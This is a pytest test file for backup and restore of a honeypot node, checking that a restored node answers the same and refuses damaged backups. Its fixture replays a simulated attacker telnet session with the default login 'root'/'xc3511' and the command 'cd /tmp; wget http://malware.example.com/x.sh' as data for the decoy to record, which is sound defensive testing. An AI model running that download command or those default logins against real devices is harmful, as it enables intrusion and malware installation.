"""Backup of a node that works, restored elsewhere: equal answers, and it goes on where it stood. Broken backups change nothing."""

import collections
import http.client
import json
import os
import shutil
import socket
import subprocess
import threading
import urllib.request

import pytest

import honeypot_logs
from noroshi import PATIENCE, Node, converse, visit_from, wait_until
from remote import Relay, RemoteSensor, enrol, peer_address, sensor
from test_disk import SmallDisk

LISTEN = ("telnet@router:127.0.0.1:0,http@nginx:127.0.0.1:0,https@nginx:127.0.0.1:0,redis:127.0.0.1:0,udp:127.0.0.1:0,"
          "any:127.0.0.0/24:0,http@nginx+nas+camera:127.0.0.0/24:0")
EMPTY_OF_TIME = ("uptime", "time", "took_ms", "ms")


def fingerprint(port, host="127.0.0.1"):
    """Of the certificate that a visitor of the https decoy is shown."""
    hello = ["openssl", "s_client", "-connect", f"{host}:{port}", "-servername", "gw.example"]
    shown = subprocess.run(hello, input=b"", capture_output=True, timeout=PATIENCE).stdout
    return subprocess.run(["openssl", "x509", "-noout", "-fingerprint", "-sha256"], input=shown, capture_output=True, timeout=PATIENCE, check=True).stdout


def mixed_port(node):
    return next(each["port"] for each in node.status()["listeners"] if "+" in each["persona"])


def faces(node):
    """Which persona answers at each of twenty addresses: the choice keyed by the node's secret."""
    port = mixed_port(node)
    return [converse(port, b"GET / HTTP/1.0\r\n\r\n", host=f"127.0.0.{last}").partition(b"\r\n\r\n")[2][:200] for last in range(1, 21)]


def fetch(node, path):
    request = urllib.request.Request(node.address() + path, headers={"Authorization": f"Bearer {node.key}"})
    with urllib.request.urlopen(request, timeout=PATIENCE) as answer:
        return answer.read().decode()


class Tower(Node):
    LISTEN = LISTEN
    key = None

    def address(self):
        return self.status()["api"][0]


def without_clock(value):
    """An answer without what differs from one question to the next: times it took and rates."""
    if isinstance(value, dict):
        return {name: without_clock(each) for name, each in value.items() if name not in EMPTY_OF_TIME}
    return [without_clock(each) for each in value] if isinstance(value, list) else value


def answers(node):
    """What a node says of itself in every way that people and programs ask."""
    told = {
        f"show ip {source}": node.json("show", "ip", source) for source in ("127.0.0.1", "127.0.0.2", "127.0.0.3", "127.0.0.5")
    }
    told["search"] = node.json("search", "127.0.0.2", "c2.example.org", "withdrawn.example.org", "malware.example.com", "http://malware.example.com/x.sh")[:-1]
    for words in (("login", "username"), ("request", "path"), ("command", "command")):
        told[f"top {words}"] = sorted(map(json.dumps, node.json("top", *words, "--limit", "100000")))
    told["report"] = node.json("report")
    told["users"] = node.json("users")
    told["sensors"] = [{name: each[name] for name in ("name", "state", "observations")} for each in node.json("sensors")]
    told["audit"] = [each for each in node.json("audit") if each["action"] != "backup"]
    told["csv"] = sorted(node.run("export", "csv").splitlines())
    told["feed"] = [line for line in fetch(node, "/feeds/inbound-ips.txt").splitlines() if not line.startswith("#")]
    told["observations"] = json.loads(fetch(node, "/api/v1/observations?limit=500"))
    told["ip"] = json.loads(fetch(node, "/api/v1/ips/127.0.0.2"))
    status = node.json("status")[0]
    told["status"] = [sorted((each["decoy"], each["persona"]) for each in status["listeners"]), sorted(status)]
    return without_clock(told)


def assert_same(before, after):
    for question, told in before.items():
        assert after[question] == told, question


def paths(node):
    top = node.json("top", "request", "path", "--limit", "1000000")
    return collections.Counter({each["value"]: each["count"] for each in top})


def ask(port, path, source="127.0.0.1"):
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=PATIENCE, source_address=(source, 0))
    connection.request("GET", path)
    connection.getresponse().read()
    connection.close()


class Load:
    """Visitors that come as long as it runs, each with a path of its own."""

    def __init__(self, port):
        self.port, self.sent, self.ending = port, 0, False
        self.thread = threading.Thread(target=self.run)

    def run(self):
        while not self.ending:
            ask(self.port, f"/load-{self.sent}")
            self.sent += 1

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *_):
        self.ending = True
        self.thread.join()


def fill(node, folder):
    """Something of everything that a node keeps."""
    port = {each["decoy"]: each["port"] for each in node.status()["listeners"] if "/" not in each["address"]}
    visit_from("127.0.0.2", port["telnet"], b"root\r\n", b"xc3511\r\n", b"cd /tmp; wget http://malware.example.com/x.sh\r\n")
    visit_from("127.0.0.3", port["telnet"], b"admin\r\n", b"admin\r\n")
    converse(port["http"], b"GET /before HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
    converse(port["redis"], b"*1\r\n$4\r\nINFO\r\n")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.bind(("127.0.0.5", 0))
        sender.sendto(b"\x17\x00\x03\x2a" + bytes(4), ("127.0.0.1", port["udp"]))
    node.run("users", "add", "firewall", "--role", "reader")
    node.key = node.run("keys", "add", "firewall").split()[0]
    node.run("report", "add", "--title", "kept", "--role", "c2", "--tlp", "green", "c2.example.org", "198.51.100.0/24")
    node.run("report", "add", "--title", "taken back", "withdrawn.example.org")
    node.run("report", "withdraw", "2")
    lines, expected = honeypot_logs.opencanary(200)
    log = folder / "canary.json"
    log.write_text("".join(line + "\n" for line in lines))
    node.run("import", log)
    wait_until(lambda: sensor(node, "opencanary/canary-1")["observations"] == expected.observations, "the import")
    wait_until(lambda: all(node.knows(f"127.0.0.{last}") for last in (1, 2, 3, 5)), "every visitor is known")
    wait_until(lambda: paths(node)["/before"] == 1, "the request")
    return log


def settled(node):
    """Nothing is on its way any more."""
    told = answers(node)
    while (again := answers(node)) != told:
        told = again
    return told


def restored(folder, backup, like):
    """A tower made of a backup, not started yet."""
    node = Tower(folder, settings=["sense.hostname=gw"])
    node.key = like.key
    told = node.run("restore", backup)
    assert str(node.data) in told and "serve" in told
    return node


def end(*nodes):
    for node in nodes:
        if node.process and node.process.poll() is None:
            node.stop()


@pytest.fixture(scope="module")
def tower(tmp_path_factory):
    """A running node that has something of everything, and the log that it read."""
    folder = tmp_path_factory.mktemp("tower")
    with Tower(folder, settings=["sense.hostname=gw"]) as node:
        node.canary = fill(node, folder)
        yield node


def test_after_backup_wipe_and_restore_answers_are_equal_and_the_node_goes_on(tower, tmp_path):
    """The whole life: a sensor elsewhere reports, one is distrusted; the machine is lost; another one goes on."""
    relay = Relay(peer_address(tower))
    rack = RemoteSensor(tmp_path / "rack", "rack")
    node = tower
    try:
        rack.start(enrol(tower, "rack", relay.address))
        ask(rack.port(), "/rack-before")
        wait_until(lambda: paths(tower)["/rack-before"] == 1, "the visit elsewhere")
        tower.run("sensors", "distrust", "rack", "--since", "2020-01-01T00:00:00Z")
        before, shown, seen = settled(tower), fingerprint(tower.port("https")), faces(tower)
        before = settled(tower)
        assert len(set(seen)) > 1
        backup = tmp_path / "backup"
        assert "files" in tower.run("backup", backup)
        relay.cut()
        node = restored(tmp_path / "new", backup, tower)
        for folder in (backup, node.data):
            assert all(path.stat().st_mode & 0o077 == 0 for path in folder.glob("*.sqlite"))
        node.start()
        assert_same(before, answers(node))
        assert fingerprint(node.port("https")) == shown
        assert faces(node) == seen

        # It goes on: own visits, those of the sensor that waited, a log that it knows, new reports and their numbers.
        ask(node.port("http"), "/after", "127.0.0.9")
        ask(rack.port(), "/rack-after")
        relay.target = peer_address(node)
        relay.mend()
        wait_until(lambda: paths(node)["/after"] == 1 and paths(node)["/rack-after"] == 1, "visits after the restore")
        (again,) = (json.loads(line) for line in node.run("import", tower.canary, "--format", "json").splitlines())
        assert again["taken"] == 0 and again["known"] == 200
        assert "Report 3 " in node.run("report", "add", "--title", "new", "new.example.org")
        counts = paths(node)
        assert counts["/before"] == counts["/rack-before"] == 1
        assert answers(node)["csv"] != before["csv"]
        node.stop()
        node.start()
        assert paths(node)["/after"] == paths(node)["/rack-after"] == paths(node)["/before"] == 1
    finally:
        rack.end()
        relay.close()
        if node is not tower:
            end(node)


def test_a_backup_under_load_is_of_one_moment(tower, tmp_path):
    with Load(tower.port("http")) as load:
        wait_until(lambda: paths(tower)["/load-20"] == 1, "the load runs")
        tower.run("backup", tmp_path / "backup")
        during = load.sent
        wait_until(lambda: load.sent > during + 20, "the load goes on behind the backup")
    node = restored(tmp_path / "new", tmp_path / "backup", tower)
    counts = {path: count for path, count in paths(node).items() if path.startswith("/load-")}
    assert set(counts.values()) <= {1}
    # What was in the spool at that moment is not in it; what came later neither.
    assert counts and set(counts) <= {f"/load-{number}" for number in range(during + 1)}
    # The stores agree with one another, and the node loses nothing by the backup.
    shown = node.json("show", "ip", "127.0.0.1")[0]
    assert shown["observations"] >= 2 * len(counts)  # a visit is a connection and a request at least
    wait_until(lambda: sum(path.startswith("/load-") for path in paths(tower)) == load.sent, "every visit is at the first node")


@pytest.fixture
def backup(tower, tmp_path):
    folder = tmp_path / "backup"
    tower.run("backup", folder)
    return folder


def contents(folder):
    return {str(path.relative_to(folder)): path.read_bytes() for path in sorted(folder.rglob("*")) if path.is_file()}


@pytest.mark.parametrize("damage, said", [
    (lambda folder: (folder / "manifest.json").unlink(), "no backup, or one that was not finished"),
    (lambda folder: (folder / "manifest.json").write_bytes((folder / "manifest.json").read_bytes()[:-40]), "manifest.json is damaged"),
    (lambda folder: (folder / "catalogue.sqlite").unlink(), "lacks its file catalogue.sqlite"),
    (lambda folder: os.truncate(folder / "indicators" / "key", 50), "indicators/key is not what was written"),
    (lambda folder: (folder / "peer.pem").write_bytes(b"x" + (folder / "peer.pem").read_bytes()[1:]), "peer.pem is not what was written"),
    (lambda folder: (folder / "stranger").write_text("x"), "did not come with the file stranger"),
    (lambda folder: shutil.rmtree(folder), "no backup"),
])
def test_a_damaged_backup_is_refused_and_nothing_is_made(tower, backup, tmp_path, damage, said):
    damage(backup)
    node = Node(tmp_path)
    told = subprocess.run(node.command("restore", backup), capture_output=True, text=True, timeout=PATIENCE)
    assert told.returncode in (2, 3) and said in told.stderr, told.stderr
    assert not node.data.exists()


def test_a_place_that_is_not_empty_is_left_as_it_is(tower, backup, tmp_path):
    held = contents(backup)
    assert "is not empty" in tower.run("backup", backup, expect=3)
    assert "outside the data directory" in tower.run("backup", tower.data / "inside", expect=2)
    # Whatever leads there: a link, one further up, one to what is not there yet.
    inside = sorted(path.name for path in tower.data.iterdir())
    (tmp_path / "door").symlink_to(tower.data)
    (tmp_path / "nowhere").symlink_to(tower.data / "not-yet")
    assert "outside the data directory" in tower.run("backup", tmp_path / "door" / "inside", expect=2)
    assert "outside the data directory" in tower.run("backup", tmp_path / "door", expect=2)
    assert "is not empty" in tower.run("backup", tmp_path / "nowhere", expect=3)
    assert sorted(path.name for path in tower.data.iterdir()) == inside
    assert "cannot make the folder" in tower.run("backup", tmp_path / "no" / "such", expect=3)
    assert contents(backup) == held
    # Over a node that runs, one that does not, and what is no node at all.
    reports = tower.json("report")
    assert "is not empty; nothing was changed" in tower.run("restore", backup, expect=3)
    assert tower.json("report") == reports
    other = Node(tmp_path / "other")
    other.folder.mkdir()
    other.init()
    before = contents(other.data)
    assert "is not empty" in other.run("restore", backup, expect=3)
    assert contents(other.data) == before


@pytest.mark.skipif(os.geteuid() != 0, reason="mounting a small disk needs root")
def test_a_full_disk_is_told_and_leaves_no_half_of_a_copy(tower, backup, tmp_path):
    with SmallDisk(tmp_path, "200k") as disk:
        told = tower.run("backup", disk / "backup", expect=3)
        assert "disk" in told and str(disk / "backup") in told, told
        assert not list(disk.iterdir())
        node = Node(disk)
        told = node.run("restore", backup, expect=3)
        assert "disk" in told and str(disk) in told, told
        assert not list(disk.iterdir())
    tower.run("backup", tmp_path / "again")


@pytest.mark.skipif(os.geteuid() != 0, reason="only root may work in another user's folder")
def test_root_does_not_put_files_where_the_nodes_user_could_not_open_them(backup, tmp_path):
    node = Node(tmp_path)
    node.data.mkdir()
    os.chown(node.data, 65534, 65534)
    for words in (["restore", backup], ["init"]):
        told = node.run(*words, expect=3)
        assert "belongs to the user nobody" in told and "runuser -u nobody" in told, told
    assert not list(node.data.iterdir())
